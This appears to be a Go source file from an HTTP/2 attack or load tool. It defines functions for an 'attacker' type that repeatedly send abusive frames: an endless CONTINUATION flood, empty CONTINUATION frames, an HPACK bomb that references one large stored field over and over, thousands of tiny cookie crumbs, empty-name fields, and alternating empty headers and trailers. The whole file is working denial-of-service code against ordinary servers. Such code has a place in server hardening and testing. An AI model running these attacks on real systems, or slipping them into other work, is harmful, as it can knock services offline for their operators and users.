package main

import "bytes"

const (
	crumbsPerBlock = 4000
	storedBytes    = 4000 // with its overhead below the table of 4,096 that everybody has
)

// continuationFlood never ends its header block.
func continuationFlood(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	if err := a.send(appendFrame(nil, frameHeaders, flagEndStream, 1, appendRequest(nil, indexGet, smallPath))); err != nil {
		return err
	}
	var piece []byte
	for range 32 {
		piece = appendFrame(piece, frameContinuation, 0, 1, appendLiteral(nil, "x-fill", "0123456789"))
	}
	return a.repeat(func() []byte { return piece })
}

// continuationEmpty does the same and says nothing.
func continuationEmpty(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	if err := a.send(appendFrame(nil, frameHeaders, flagEndStream, 1, appendRequest(nil, indexGet, smallPath))); err != nil {
		return err
	}
	var piece []byte
	for range 256 {
		piece = appendFrame(piece, frameContinuation, 0, 1, nil)
	}
	return a.repeat(func() []byte { return piece })
}

// hpackBomb stores a large field once and then names it as often as a frame holds.
func hpackBomb(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	first := appendStored(appendRequest(nil, indexGet, smallPath), "x-bomb", string(bytes.Repeat([]byte{'x'}, storedBytes)))
	if err := a.send(appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, first)); err != nil {
		return err
	}
	block := appendRequest(nil, indexGet, smallPath)
	block = append(block, bytes.Repeat([]byte{indexNewest}, frameBytesMax-len(block))...)
	return a.requests(block)
}

// cookieCrumbs sends heads of thousands of small cookies, which have to be joined for HTTP/1.1.
func cookieCrumbs(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	if err := a.send(appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, appendStored(appendRequest(nil, indexGet, smallPath), "cookie", "a=b"))); err != nil {
		return err
	}
	return a.requests(append(appendRequest(nil, indexGet, smallPath), bytes.Repeat([]byte{indexNewest}, crumbsPerBlock)...))
}

// emptyNames sends fields that have neither a name nor a value.
func emptyNames(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, smallPath)
	for len(block)+3 <= frameBytesMax {
		block = append(block, 0, 0, 0)
	}
	return a.requests(block)
}

// requests sends one header block again and again, from stream 3 on.
func (a *attacker) requests(block []byte) error {
	stream := uint32(3)
	var b []byte
	return a.repeat(func() []byte {
		b = appendFrame(b[:0], frameHeaders, flagEndHeaders|flagEndStream, stream, block)
		stream += 2
		return b
	})
}

// emptyHeaders alternates requests without a field and trailers without one.
func emptyHeaders(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexPost, smallPath)
	stream := uint32(1)
	var b []byte
	return a.repeat(func() []byte {
		b = b[:0]
		for range batchStreams / 2 {
			b = appendFrame(b, frameHeaders, flagEndHeaders, stream, block)
			b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, stream, nil)
			b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, stream+2, nil)
			stream += 4
		}
		return b
	})
}
